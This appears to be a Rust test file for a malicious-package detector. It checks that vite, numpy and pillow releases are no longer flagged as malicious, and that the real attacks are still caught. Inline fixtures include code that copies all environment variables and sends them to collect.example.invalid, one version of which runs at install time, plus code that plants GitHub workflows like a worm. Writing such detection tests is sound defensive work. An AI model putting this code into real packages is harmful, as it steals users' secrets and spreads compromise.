//! Benign releases an earlier rule set called malicious (fixtures/false-positives, see its
//! README): each must stay below `malicious` without the signal that misfired, and the
//! attack each sharpened rule exists for must still be caught.
#![allow(clippy::unwrap_used)]

mod common;

use common::{Files, fixtures};
use firebreak_content::{Analysis, PackageFile, Phase, VerdictKind, analyze, score};

fn analyse_fixture(name: &str) -> Analysis {
    let files = Files::read(&fixtures().join("false-positives").join(name).join("package"));
    analyze(&files.package_files())
}

fn analyse_inline(files: &[(&str, &str)]) -> Analysis {
    let files: Vec<PackageFile<'_>> =
        files.iter().map(|(p, d)| PackageFile { path: p, data: d.as_bytes(), executable: false }).collect();
    analyze(&files)
}

fn signals_in(analysis: &Analysis, path: &str) -> Vec<String> {
    analysis
        .hits
        .iter()
        .filter(|h| h.path == path)
        .map(|h| format!("{} {}", h.signal.id, h.message))
        .collect()
}

#[test]
fn issue_5_vite_env_prefix_filter_is_not_a_harvest() {
    let analysis = analyse_fixture("vite-8.4.0");
    let verdict = score(&analysis, &[]);
    assert_ne!(verdict.verdict, VerdictKind::Malicious, "{:#?}", verdict.reasons);
    let hits = signals_in(&analysis, "dist/node/chunks/node.js");
    assert!(!hits.iter().any(|h| h.starts_with("env-harvest")), "{hits:#?}");
    assert!(hits.iter().any(|h| h.starts_with("network-access")), "the network use is still seen: {hits:#?}");

    // The same loop copying every variable, next to a request, is still the crossenv shape.
    let stealer = analyse_inline(&[
        ("package.json", r#"{"name":"x","version":"1.0.0","main":"index.js"}"#),
        (
            "index.js",
            "const https = require('https');\nconst all = {};\nfor (const key in process.env) all[key] = process.env[key];\nhttps.request({ hostname: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(all));\n",
        ),
    ]);
    assert!(stealer.hits.iter().any(|h| h.signal.id == "env-harvest"), "{:#?}", stealer.hits);
    assert_eq!(score(&stealer, &[]).verdict, VerdictKind::Malicious);
}

#[test]
fn issue_5_numpy_ci_scripts_are_not_a_worm_or_a_dropper() {
    let analysis = analyse_fixture("numpy-2.5.5");
    let verdict = score(&analysis, &[]);
    assert_ne!(verdict.verdict, VerdictKind::Malicious, "{:#?}", verdict.reasons);
    let hits = signals_in(&analysis, "tools/wheels/cibw_before_build.sh");
    assert!(!hits.iter().any(|h| h.starts_with("worm-behaviour")), "a comment names the workflow: {hits:#?}");
    // What each file does on its own is still reported.
    let install = signals_in(&analysis, "vendored-meson/meson/ci/ciimage/ubuntu-rolling/install.sh");
    assert!(install.iter().any(|h| h.starts_with("download-and-execute")), "{install:#?}");

    // Writing a workflow into a repository, or creating it through the contents API, is
    // still worm behaviour.
    let worm = analyse_inline(&[
        ("package.json", r#"{"name":"x","version":"1.0.0","main":"index.js"}"#),
        (
            "index.js",
            "const fs = require('fs');\nconst path = require('path');\nfunction plant(repo) {\n  fs.writeFileSync(path.join(repo, '.github/workflows', 'ci.yml'), 'on: push');\n}\nmodule.exports = plant;\n",
        ),
        (
            "api.py",
            "import requests\nrequests.put('https://api.github.com/repos/o/r/contents/.github/workflows/x.yml', json={})\n",
        ),
    ]);
    let worm_hits: Vec<String> =
        worm.hits.iter().filter(|h| h.signal.id == "worm-behaviour").map(|h| h.message.clone()).collect();
    assert!(worm_hits.iter().any(|m| m.contains("writes a GitHub Actions workflow")), "{worm_hits:#?}");
    assert!(worm_hits.iter().any(|m| m.contains("through the GitHub API")), "{worm_hits:#?}");
    assert_eq!(score(&worm, &[]).verdict, VerdictKind::Malicious, "two worm facts");
}

#[test]
fn issue_5_pillow_build_flag_loops_are_not_an_install_time_harvest() {
    let analysis = analyse_fixture("pillow-13.0.0");
    let verdict = score(&analysis, &[]);
    assert_ne!(verdict.verdict, VerdictKind::Malicious, "{:#?}", verdict.reasons);
    let hits = signals_in(&analysis, "setup.py");
    assert!(!hits.iter().any(|h| h.starts_with("env-harvest")), "{hits:#?}");
    assert!(
        analysis.hits.iter().any(|h| h.path == "setup.py" && h.phase == Phase::InstallTime),
        "setup.py still runs at install time: {hits:#?}"
    );

    // Iterating the environment itself at install time, and sending it, still is.
    let harvest = analyse_inline(&[
        ("PKG-INFO", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"),
        (
            "setup.py",
            "import os\nimport urllib.request\nfrom setuptools import setup\nblob = ''\nfor k, v in sorted(os.environ.items()):\n    blob += k + '=' + v + ';'\nurllib.request.urlopen('https://collect.example.invalid/?d=' + blob)\nsetup(name='x')\n",
        ),
    ]);
    assert!(harvest.hits.iter().any(|h| h.signal.id == "env-harvest"), "{:#?}", harvest.hits);
    assert_eq!(score(&harvest, &[]).verdict, VerdictKind::Malicious);

    // A loop that picks variables by prefix is configuration, not a harvest.
    let config = analyse_inline(&[(
        "app/config.py",
        "import os\nsettings = {}\nfor name, value in os.environ.items():\n    if name.startswith('MYAPP_'):\n        settings[name] = value\n",
    )]);
    assert!(!config.hits.iter().any(|h| h.signal.id == "env-harvest"), "{:#?}", config.hits);
}
